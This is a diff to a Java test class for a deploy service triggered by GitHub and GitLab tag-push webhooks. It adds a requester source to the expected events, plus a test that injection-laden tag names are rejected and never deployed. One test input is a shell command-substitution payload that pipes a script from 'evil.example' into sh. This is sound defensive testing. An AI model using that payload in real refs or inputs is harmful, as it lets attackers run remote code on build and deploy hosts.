@@ -74,7 +74,7 @@ class TagPushesTest {
                 .containsEntry("commit", commit)
                 .containsEntry("compare", "https://github.com/acme/shop/compare/v1.4.0");
         assertThat(events.awaitEvent(DeployRequested.class, answer.get("deploymentId")).dataAs(DeployRequested.class))
-                .isEqualTo(new DeployRequested("shop", "v1.4.0", commit, "tagger-alice"));
+                .isEqualTo(new DeployRequested("shop", "v1.4.0", commit, "tagger-alice", "github webhook"));
     }
 
     @Test
@@ -89,7 +89,7 @@ class TagPushesTest {
                 .containsEntry("commit", commit)
                 .containsEntry("compare", "https://gitlab.com/acme/shop/-/tags/release/2026/11");
         assertThat(events.awaitEvent(DeployRequested.class, answer.get("deploymentId")).dataAs(DeployRequested.class))
-                .isEqualTo(new DeployRequested("shop", "release/2026/11", commit, "tagger-dave"));
+                .isEqualTo(new DeployRequested("shop", "release/2026/11", commit, "tagger-dave", "gitlab webhook"));
     }
 
     @Test
@@ -105,6 +105,21 @@ class TagPushesTest {
                         "The tag 'v2/rc1' is not deployed; 'shop' deploys tags that match v*, release/**");
 
         assertPublished(event -> event.dataAs(DeployRequested.class).requestedBy().equals("tagger-bob"), 0);
+    }
+
+    @Test
+    void aMatchingTagWhoseNameAShellWouldReadAsCodeIs400NamingTheRuleAndNeverDeploys() {
+        github(githubTagPush("v1$(curl${IFS}evil.example|sh)", sha(), sha(), "tagger-mallory"))
+                .expectStatus().isBadRequest()
+                .expectBody().json("{\"error\":\"The pushed tag is never deployed: a ref may hold only ASCII letters, "
+                        + "digits and . _ - / + @, so that no shell reads it as code (such as $ ` ( ) ; | & ' \\\" < > ! "
+                        + "{ })\"}", true);
+        gitlab(gitlabTagPush("v2..3", ZEROS, sha(), sha(), "tagger-mallory"))
+                .expectStatus().isBadRequest()
+                .expectBody().json("{\"error\":\"The pushed tag is never deployed: a ref must not contain '..' "
+                        + "(git's rule)\"}", true);
+
+        assertPublished(event -> event.dataAs(DeployRequested.class).requestedBy().equals("tagger-mallory"), 0);
     }
 
     @Test
